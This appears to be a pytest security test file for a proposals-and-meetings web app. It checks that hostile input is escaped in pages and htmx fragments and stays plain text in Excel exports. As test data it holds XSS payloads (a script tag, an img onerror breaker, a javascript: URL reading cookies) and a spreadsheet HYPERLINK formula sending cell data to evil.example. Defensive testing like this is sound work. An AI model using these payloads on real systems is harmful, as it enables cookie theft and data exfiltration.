"""Hostile text is shown as text everywhere: pages, htmx fragments, meeting page, panels."""

from app.extensions import db
from app.proposals.models import Proposal
from tests.docjobs.fetch import fetch_document
from tests.security.world import build

SCRIPT = "<script>alert('xss')</script>"
BREAKER = '"><img src=x onerror=alert(1)>'
JS_URL = "javascript:alert(document.cookie)"


def test_hostile_proposal_text_is_escaped_everywhere(app, users, login_as):
    ids = build(app, users).ids
    with app.app_context():
        proposal = db.session.get(Proposal, ids["proposal_id"])
        proposal.title = f"Đường {SCRIPT}"
        proposal.content = f"{BREAKER} xem {JS_URL}"
        proposal.location = BREAKER
        proposal.meeting_id = ids["meeting_id"]
        db.session.commit()
    pid = ids["proposal_id"]
    pages = {
        "coordinator": ["/", f"/proposals/{pid}", "/proposals/", "/proposals/?q=duong", f"/meetings/{ids['meeting_id']}"],
        "department": ["/", f"/proposals/{pid}", "/proposals/"],
        "commune_b": ["/", f"/proposals/{pid}", "/proposals/"],
    }
    for role, paths in pages.items():
        client = login_as(role)
        for path in paths:
            for htmx in (False, True):
                body = client.get(path, htmx=htmx).get_data(as_text=True)
                assert SCRIPT not in body, (role, path, htmx)
                assert BREAKER not in body, (role, path, htmx)
                assert f'href="{JS_URL}' not in body, (role, path, htmx)
        detail = client.get(f"/proposals/{pid}").get_data(as_text=True)
        assert "&lt;script&gt;alert(" in detail, role
        assert "&#34;&gt;&lt;img src=x onerror=alert(1)&gt;" in detail or "&quot;&gt;&lt;img" in detail, role


def test_exports_keep_hostile_text_as_text(app, users, login_as):
    """Excel exports: a title starting with "=" stays text, never a formula Excel would run."""
    import io

    from openpyxl import load_workbook

    ids = build(app, users).ids
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    with app.app_context():
        proposal = db.session.get(Proposal, ids["proposal_id"])
        proposal.title = formula
        proposal.content = SCRIPT
        db.session.commit()
    response = fetch_document(login_as("coordinator"), "/reports/export/proposals.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == formula]
    assert cells, "the hostile title should be in the export"
    assert all(cell.data_type == "s" for cell in cells)
